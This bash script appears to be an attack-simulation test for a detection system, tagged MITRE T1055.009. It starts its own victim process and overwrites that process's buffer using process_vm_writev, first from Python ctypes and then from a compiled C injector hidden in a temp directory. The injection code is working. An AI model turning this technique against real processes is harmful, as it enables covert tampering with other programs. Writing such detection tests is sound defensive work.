#!/bin/bash
# desc: data injected into another process's memory with process_vm_writev (no ptrace): python ctypes and a compiled injector overwrite a running victim's buffer, which then prints the attacker's text
# mitre: T1055, T1055.009
# expect: process_memory_written_by_syscall*2
source "$ATTACK_LIB"

/usr/bin/python3 -c '
import ctypes, sys, time
buf = ctypes.create_string_buffer(b"original" * 8)
print(ctypes.addressof(buf), flush=True)
for _ in range(300):
    if buf.value.startswith(b"INJECTED") and b"AGAIN" in buf.value:
        break
    time.sleep(0.05)
print(buf.value[:16].decode(), flush=True)' >victim.out &
victim=$!
undo "kill $victim"
for i in $(seq 1 100); do [ -s victim.out ] && break; sleep 0.05; done
addr=$(head -1 victim.out)

/usr/bin/python3 - "$victim" "$addr" <<'PY'
import ctypes, sys
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
data = ctypes.create_string_buffer(b"INJECTED", 8)
libc = ctypes.CDLL(None, use_errno=True)
n = libc.process_vm_writev(int(sys.argv[1]), ctypes.byref(iovec(ctypes.addressof(data), 8)), 1,
                           ctypes.byref(iovec(int(sys.argv[2]), 8)), 1, 0)
sys.exit(0 if n == 8 else 1)
PY
cat >w.c <<'C'
#define _GNU_SOURCE
#include <stdlib.h>
#include <sys/uio.h>
int main(int argc, char **argv)
{
	char data[] = "AGAIN";
	struct iovec l = { data, 5 }, r = { (void *)(strtoull(argv[2], 0, 10) + 8), 5 };
	return process_vm_writev(atoi(argv[1]), &l, 1, &r, 1, 0) == 5 ? 0 : 1;
}
C
gcc -O1 -o "$ATTACK_TMP/.injector" w.c
"$ATTACK_TMP/.injector" "$victim" "$addr"
wait "$victim" || true
grep -q INJECTED victim.out
